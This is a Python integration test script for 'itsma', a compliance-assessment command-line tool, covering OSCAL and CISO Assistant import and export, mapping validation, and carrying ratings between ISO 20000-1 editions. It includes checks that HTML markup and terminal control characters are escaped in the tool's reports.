    s = c['sections'][0]
    check(s['sections'][0]['id'] == 'c-1-group' and s['sections'][0]['requirements'][0]['id'] == 'c-1',
          'a control with sub-controls is a section with its own requirement', s)
    sub = s['sections'][0]['requirements']
    check([q['id'] for q in sub] == ['c-1', 'c-1.1'], 'withdrawn sub-control skipped', sub)
    check(sub[1]['obligation'] == 'should', 'SOLLTE -> should', sub[1])
    check('[Assignment: weekly]' not in sub[0]['text'] and 'weekly, monthly' in sub[0]['text'], 'param values used', sub[0])
    check(any(q['id'] == 'bad_id' for q in s['requirements']) and any(q['id'] == 'bad_id-2' for q in s['requirements']),
          'ids sanitised without collisions', s['requirements'])
    for v in ('1.0.0', 'v1.1.2', '1.2.0'):
        doc = json.load(open(data('oscal-nested.json')))
        doc['catalog']['metadata']['oscal-version'] = v
        json.dump(doc, open(work('v.json'), 'w'))
        expect(run('import-catalogue', '--from', 'oscal', work('v.json')), 0, 'OSCAL version ' + v)
    doc['catalog']['metadata']['oscal-version'] = '2.0.0'
    json.dump(doc, open(work('v.json'), 'w'))
    r = expect(run('import-catalogue', '--from', 'oscal', work('v.json')), 1, 'OSCAL 2.0 refused')
    check('/catalog/metadata/oscal-version' in r.err, 'error names the pointer', r.err)
    # assessment results and POA&M of the sample, against the metaschema
    q4 = src('examples', 'data', 'acme-2026-q4.json')
    req = metaschema_required()
    expect(run('export', '--to', 'oscal-ar', q4, '-o', work('ar.json')), 0, 'AR')
    expect(run('export', '--to', 'oscal-poam', q4, '-o', work('poam.json')), 0, 'POA&M')
    ar = json.load(open(work('ar.json')))['assessment-results']
    poam = json.load(open(work('poam.json')))['plan-of-action-and-milestones']
    r2 = expect(run('export', '--to', 'oscal-ar', q4), 0, 'AR again')
    check(r2.out == open(work('ar.json')).read(), 'same input, same bytes')
    if req is not None:
        check_required(ar, 'assessment-results', req, 'ar')
        check_required(ar['metadata'], 'metadata', req, 'ar/metadata')
        res = ar['results'][0]
        check_required(res, 'result', req, 'result')
        for o in res.get('observations', []):
            check_required(o, 'observation', req, 'observation')
            check(set(o['methods']) <= {'EXAMINE', 'INTERVIEW', 'TEST', 'UNKNOWN'}, 'methods allowed', o['methods'])
        for f in res['findings']:
            check_required(f, 'finding', req, 'finding')
            check(f['target']['status']['state'] in ('satisfied', 'not-satisfied'), 'target state allowed')
            check(f['target']['type'] in ('statement-id', 'objective-id'), 'target type allowed')
            check(f['target']['implementation-status']['state'] in
                  ('implemented', 'partial', 'planned', 'alternative', 'not-applicable'), 'implementation state')
        for k in res.get('risks', []):
            check_required(k, 'risk', req, 'risk')
            check(k['status'] in ('open', 'investigating', 'remediating', 'deviation-requested',
                                  'deviation-approved', 'closed'), 'risk status allowed')
        check_required(poam, 'plan-of-action-and-milestones', req, 'poam')
        for it in poam['poam-items']:
            check_required(it, 'poam-item', req, 'poam-item')
        uuids = {f['uuid'] for f in res['findings']}
        check(all(x['finding-uuid'] in uuids for it in poam['poam-items'] for x in it['related-findings']),
              'POA&M items refer to the findings of the AR')
    # CISO Assistant: the 2018 catalogue round trip, and a foreign library
    for catid, fname in (('iso20000-1:2018', 'iso20000-1-2018.json'), ('iso20000-1:2011', 'iso20000-1-2011.json')):
        expect(run('export', '--to', 'ciso-library', catid, '-o', work('lib.yaml')), 0, 'CISO library of ' + catid)
        expect(run('import-catalogue', '--from', 'ciso', work('lib.yaml'), '-o', work('back.json')), 0, 'back')
        check(json.load(open(work('back.json'))) == json.load(open(src('data', 'catalogues', fname))),
              catid + ' -> CISO library -> catalogue is equal')
    r = expect(run('import-catalogue', '--from', 'ciso', data('ciso-small.yaml')), 0, 'foreign CISO library')
    c = json.loads(r.out)
    reqs = c['sections'][0]['sections'][0]['requirements']
    check(reqs[0]['id'] == '4.1' and reqs[0]['tags'] == ['Clauses'], 'ref_id and implementation groups', reqs)
    check(reqs[1]['obligation'] == 'should' and reqs[1]['evidence_hint'] == ['Policy', 'Minutes'], 'importance, typical_evidence', reqs)
    check(reqs[1]['weight'] == 3 and 'weight' not in reqs[0], 'weight', reqs)
    # mapping sets: itsma-mapping/1 -> OSCAL mapping-collection / CISO Assistant set -> back
    mdir = src('tests', 'data', 'mapping')
    cats = ['--source', os.path.join(mdir, 'old-catalogue.json'), '--target', os.path.join(mdir, 'new-catalogue.json')]
    orig = json.loads(expect(run('mapping', 'show', os.path.join(mdir, 'mapping.json'), '--format', 'json', *cats), 0, 'show').out)
    expect(run('mapping', 'export', '--to', 'oscal', os.path.join(mdir, 'mapping.json'), *cats, '-o', work('m.oscal.json')), 0, 'mapping to OSCAL')
    mc = json.load(open(work('m.oscal.json')))['mapping-collection']
    if req is not None:
        check_required(mc, 'mapping-collection', req, 'mapping-collection')
        check_required(mc['provenance'], 'mapping-provenance', req, 'provenance')
        for mp in mc['mappings']:
            check_required(mp, 'mapping', req, 'mapping')
            for x in mp['maps']:
                check_required(x, 'map', req, 'map')
    r = expect(run('mapping', 'import', '--from', 'oscal', work('m.oscal.json'), *cats), 0, 'mapping from OSCAL')
    check(json.loads(r.out) == orig and 'x-tool' in orig and 'x-reviewed' in r.out,
          'itsma -> OSCAL -> itsma mapping is equal, x- keys included', r)
    expect(run('mapping', 'export', '--to', 'ciso', os.path.join(mdir, 'mapping.json'), *cats, '-o', work('m.yaml')), 0, 'mapping to CISO')
    y = open(work('m.yaml')).read()
    check('requirement_mapping_set:' in y and 'relationship: superset' in y and 'strength_of_relationship: 10' in y, 'a CISO set', y[:400])
    r = expect(run('mapping', 'import', '--from', 'ciso', work('m.yaml'), *cats), 0, 'mapping from CISO')
    check(json.loads(r.out) == orig, 'itsma -> CISO Assistant -> itsma mapping is equal (n:m maps regrouped)', r)
    r = expect(run('mapping', 'import', '--from', 'ciso', work('m.yaml')), 2, 'CISO needs the catalogues')
    r = expect(run('import-catalogue', '--from', 'ciso', data('ciso-bad.yaml')), 1, 'bad parent')
    check('/objects/framework/requirement_nodes/0/parent_urn' in r.err and ':11:19:' in r.err, 'error with pointer and line', r.err)
# ---- mapping sets and carrying (issue 14) --------------------------------------------------------

def mdata(name):
    return src('tests', 'data', 'mapping', name)


def builtin_revision(cat_id):
    """The content revision a built-in catalogue declares (1 when it has none)."""
    r = run('catalogue', 'show', cat_id, '--format', 'json')
    try:
        return json.loads(r.out).get('revision', 1)
    except ValueError:
        return 1


def test_mapping():
    old_cat, new_cat, mapping = mdata('old-catalogue.json'), mdata('new-catalogue.json'), mdata('mapping.json')
    sides = ['--source', old_cat, '--target', new_cat]
    # list
    r = expect(run('mapping', 'list'), 0, 'mapping list')
    check('iso20000-1-2011-to-2018' in r.out and 'ISO/IEC 20000-1:2011 to ISO/IEC 20000-1:2018' in r.out,
          'mapping list names the built-in mapping', r)
    expect(run('mapping'), 2, 'mapping without a verb')
    expect(run('mapping', 'frob'), 2, 'mapping with an unknown verb')
    expect(run('mapping', 'list', 'x'), 2, 'mapping list with an argument')
    expect(run('mapping', 'validate'), 2, 'mapping validate without files')
    expect(run('mapping', 'show', mapping, '--format', 'csv', *sides), 2, 'mapping show --format csv')
    # validate: valid, then every problem of a broken file with its position
    r = expect(run('mapping', 'validate', mapping, *sides), 0, 'mapping validate (valid)')
    check(r.out == '%s: valid itsma-mapping/1\n' % mapping, 'valid message', r)
    expect(run('mapping', 'validate', '-q', mapping, *sides), 0, 'mapping validate -q')
    doc = json.load(open(mapping))
    doc['maps'][0]['relationship'] = 'same-as'
    doc['maps'][3]['targets'] = ['Q-99']
    doc['maps'][4]['sources'] = ['A-02']
    doc['maps'][4]['targets'] = ['M-02']
    bad = work('bad-mapping.json')
    with open(bad, 'w') as f:
        f.write(json.dumps(doc, indent=2) + '\n')
    r = expect(run('mapping', 'validate', bad, *sides), 1, 'mapping validate (broken)')
    lines = [l for l in r.err.splitlines() if l.startswith(bad)]
    check(len(lines) == 3, 'three problems listed', r)
    check(re.match(re.escape(bad) + r':\d+:\d+: /maps/0/relationship: expected "equal-to"', lines[0] if lines else ''),
          'relationship problem with line, column and pointer', r)
    check(any('/maps/3/targets/0: catalogue "test:new" has no requirement or section "Q-99"' in l for l in lines),
          'unknown target id named by its pointer', r)
    check(any('/maps/4: the same sources and targets are already mapped at /maps/1' in l for l in lines),
          'duplicate map named', r)
    check('3 problems in 1 of 1 file' in r.err, 'problem count', r)
    r = expect(run('mapping', 'validate', work('no-such.json'), *sides), 1, 'mapping validate (missing file)')
    r = expect(run('mapping', 'validate', mapping), 1, 'mapping validate against the built-in catalogues')
    check('cannot find catalogue "test:old"' in r.err and '/source/catalogue' in r.err, 'unknown catalogue', r)
    # show: JSON (deterministic, loads back) and Markdown (escaped)
    r = expect(run('mapping', 'show', mapping, '--format', 'json', *sides), 0, 'mapping show json')
    shown = json.loads(r.out)
    check(shown['format'] == 'itsma-mapping/1' and len(shown['maps']) == len(doc['maps']), 'json show', r)
    check(shown.get('x-tool') == {'name': 'fixture'}, 'x- extension kept', r)
    again = work('shown.json')
    with open(again, 'w') as f:
        f.write(r.out)
    r2 = expect(run('mapping', 'show', again, '--format', 'json', *sides), 0, 'mapping show of the shown json')
    check(r2.out == r.out, 'saving is deterministic', r2)
    doc = json.load(open(mapping))
    doc['maps'][0]['note'] = 'Pipe | and <b>bold</b> and *stars*'
    noted = work('noted-mapping.json')
    with open(noted, 'w') as f:
        f.write(json.dumps(doc, indent=2) + '\n')
    r = expect(run('mapping', 'show', noted, *sides), 0, 'mapping show md')
    check('| 0 | A-01 | equal-to | M-01 | high | Pipe \\| and \\<b\\>bold\\</b\\> and \\*stars\\* |' in r.out,
          'markdown table row with escaped note', r)
    r = expect(run('mapping', 'show', 'no-such-mapping'), 1, 'mapping show of an unknown id')
    check("no built-in mapping has that id" in r.err, 'unknown mapping message', r)


def test_carry():
    old_cat, new_cat, mapping = mdata('old-catalogue.json'), mdata('new-catalogue.json'), mdata('mapping.json')
    old = mdata('old-assessment.json')
    base = ['carry', old, '--catalogue', old_cat, '--to', new_cat, '--mapping', mapping]
    out = work('carried.json')
    r = expect(run(*base, '-o', out), 0, 'carry')
    check('carried' in r.err and 'new obligations' in r.err, 'summary on stderr', r)
    expect(run('validate', '--catalogue', new_cat, out), 0, 'the carried assessment is valid')
    a = json.load(open(out))
    rt = {x['requirement']: x for x in a['ratings']}
    check(rt['M-01']['rating'] == 'F' and rt['M-01']['evidence'] == ['e1'] and
          rt['M-01']['carried'] == {'mapping': 'test:old-to-new', 'relationship': 'equal-to', 'sources': ['A-01']},
          'equal-to carried with evidence and provenance', a)
    check(rt['M-02']['rating'] == 'L' and rt['M-02']['carried']['review'] is True, 'partial cover marked', a)
    check(rt['M-04']['rating'] == 'L+', 'partial cover capped below F', a)
    check(rt['Q-02']['rating'] == 'P', 'weakest link of a full cover', a)
    check('M-03' not in rt and 'N-01' not in rt, 'new obligations stay unassessed', a)
    ev = {e['id']: e for e in a['evidence']}
    check(ev['e2'].get('expires') == '2026-04-01', 'evidence expiry unchanged', a)
    check(any(x['process'] == 'S' and x['attribute'] == 'PA2.1' and x['rating'] == 'F' for x in a['attributes']),
          'attribute carried between equivalent processes', a)
    r2 = expect(run(*base, '-o', '-'), 0, 'carry to standard output')
    check(r2.out == open(out).read(), 'deterministic output', r2)
    # merge into an existing assessment: nothing it rated is overwritten
    merged = work('merged.json')
    expect(run(*base, '--into', mdata('new-partial.json'), '-o', merged), 0, 'carry --into')
    m = json.load(open(merged))
    mr = {x['requirement']: x for x in m['ratings']}
    check(mr['M-01']['rating'] == 'P' and 'carried' not in mr['M-01'] and m['id'] == 'new-2026',
          'existing rating kept', m)
    check(mr['M-02']['rating'] == 'L', 'the rest carried', m)
    # the transition report in three formats
    for fmt, name in (('text', 'transition.txt'), ('md', 'transition.md'), ('html', 'transition.html')):
        rep = work(name)
        expect(run(*base, '-o', work('c.json'), '--report', rep, '--report-format', fmt), 0, 'carry --report ' + fmt)
        text = open(rep, encoding='utf-8').read()
        check('Ratings to review' in text and 'New obligations to assess' in text and 'Dropped' in text,
              'report sections (%s)' % fmt, text[:2000])
        check('X-01' in text and 'M-03' in text, 'dropped and new listed (%s)' % fmt, text[:3000])
        check('X-01: marked no-relationship: Not required any more.' in text and
              'R-01: in no requirement-level map' in text, 'dropped with its reason (%s)' % fmt, text[-2000:])
        if fmt == 'html':
            p = parse_page(text)
            check_self_contained(p, 'transition report')
            check('Knowledge &lt;new&gt; &amp; *marked*' in text, 'html escaped', text[:3000])
        if fmt == 'md':
            check('Knowledge \\<new\\> \\& \\*marked\\*' in text, 'markdown escaped', text[:3000])
    # the reason for a dropped requirement is a document string: escaped like the others
    doc = json.load(open(mapping))
    for mp in doc['maps']:
        if mp['relationship'] == 'no-relationship':
            mp['note'] = 'Gone <b>bold</b> & *marked* \u001b[31m'
    noted = work('noted-mapping.json')
    with open(noted, 'w') as f:
        f.write(json.dumps(doc, indent=2) + '\n')
    for fmt, want in (('html', 'X-01: marked no-relationship: Gone &lt;b&gt;bold&lt;/b&gt; &amp; *marked*'),
                      ('md', 'X-01: marked no-relationship: Gone \\<b\\>bold\\</b\\> \\& \\*marked\\*'),
                      ('text', 'X-01: marked no-relationship: Gone <b>bold</b> & *marked* \ufffd[31m')):
        r = expect(run('carry', old, '--catalogue', old_cat, '--to', new_cat, '--mapping', noted,
                       '-o', work('n.json'), '--report', '-', '--report-format', fmt), 0,
                   'carry with a marked-up reason (%s)' % fmt)
        check(want in r.out and '\x1b' not in r.out, 'dropped reason escaped (%s)' % fmt, r.out[-1500:])
    # terminal control characters never reach the text report
    cat = json.load(open(new_cat))
    cat['sections'][-1]['requirements'][0]['text'] = 'Knowledge \u001b[31mred\u001b[0m and \u0007 bell.'
    evil = work('evil-catalogue.json')
    with open(evil, 'w') as f:
        f.write(json.dumps(cat, indent=2) + '\n')
    r = expect(run('carry', old, '--catalogue', old_cat, '--to', evil, '--mapping', mapping, '-o', work('e.json'),
                   '--report', '-'), 0, 'carry with control characters in the catalogue')
    check('\x1b' not in r.out and '\x07' not in r.out and 'Knowledge \ufffd[31mred' in r.out,
          'controls replaced in the text report', r)
    # usage and input errors
    expect(run('carry', old, '-o', out), 2, 'carry without --to')
    expect(run(*base), 2, 'carry without -o')
    expect(run('carry', '--to', new_cat, '-o', out), 2, 'carry without an assessment')
    expect(run(*base, '-o', out, '--report', '-', '--report-format', 'pdf'), 2, 'bad --report-format')
    r = expect(run('carry', old, '--catalogue', old_cat, '--to', new_cat, '-o', out), 1, 'no default mapping')
    check('no built-in mapping from test:old to test:new' in r.err, 'no default mapping message', r)
    r = expect(run('carry', old, '--catalogue', old_cat, '--to', old_cat, '--mapping', mapping, '-o', out), 1,
               'carry to the wrong catalogue')
    check('/target/catalogue' in r.err, 'mismatch named by its pointer', r)
    r = expect(run(*base, '--into', old, '-o', out), 1, '--into an assessment of another catalogue')
    # the sample: Acme's 2011 self-assessment carried with the built-in mapping
    if builtin_revision('iso20000-1:2011') < 2 or builtin_revision('iso20000-1:2018') < 2:
        print('note: built-in catalogues are at revision 1; the sample carry (revision 2 content) is not run')
        return
    sample = src('examples', 'data', 'acme-2011-selfassessment.json')
    out18 = work('acme-2018.json')
    r = expect(run('carry', sample, '--to', 'iso20000-1:2018', '-o', out18, '--report', work('acme.html'),
                   '--report-format', 'html'), 0, 'carry the Acme sample with the built-in mapping')
    expect(run('validate', out18), 0, 'the carried sample is a valid 2018 assessment')
    expect(run('report', out18, '--format', 'md'), 0, 'the carried sample reports')
    expect(run('mapping', 'validate', src('data', 'mappings', 'iso20000-1-2011-to-2018.json')), 0,
           'the built-in mapping file validates against the built-in catalogues')
    r = expect(run('mapping', 'show', 'iso20000-1-2011-to-2018', '--format', 'md'), 0, 'show the built-in mapping')


GROUPS = {
    'help': test_help, 'catalogue': test_catalogue, 'template': test_template, 'import': test_import,
    'roundtrip': test_roundtrip, 'csv': test_csv, 'validate': test_validate, 'score': test_score, 'report': test_report,
    'compare': test_compare, 'explain': test_explain, 'evidence': test_evidence, 'examples': test_examples,
    'output_safety': test_output_safety, 'trend': test_trend,
    'mapping': test_mapping, 'carry': test_carry,
    'files': test_files,
    'interop': test_interop,
}


def main():
    global ARGS, Q3, Q4, MINI_CAT, MINI
    ap = argparse.ArgumentParser()
    ap.add_argument('--itsma', required=True)
    ap.add_argument('--source', required=True)
    ap.add_argument('--work', required=True)
    ap.add_argument('--examples')
    ap.add_argument('--update-golden', action='store_true')
    ap.add_argument('groups', nargs='*')
    ARGS = ap.parse_args()
    ARGS.itsma = os.path.abspath(ARGS.itsma)
    ARGS.source = os.path.abspath(ARGS.source)
    ARGS.work = os.path.abspath(ARGS.work)
    os.makedirs(ARGS.work, exist_ok=True)
    Q3 = src('examples', 'data', 'acme-2026-q3.json')
    Q4 = src('examples', 'data', 'acme-2026-q4.json')
    MINI_CAT, MINI = data('mini-catalogue.json'), data('mini-assessment.json')
    for g in ARGS.groups or sorted(GROUPS):
        if g not in GROUPS:
            sys.exit('unknown group %s' % g)
        GROUPS[g]()
    if FAILURES:
        print('%d check(s) failed' % len(FAILURES), file=sys.stderr)
        sys.exit(1)
    print('all checks passed')


if __name__ == '__main__':
    main()
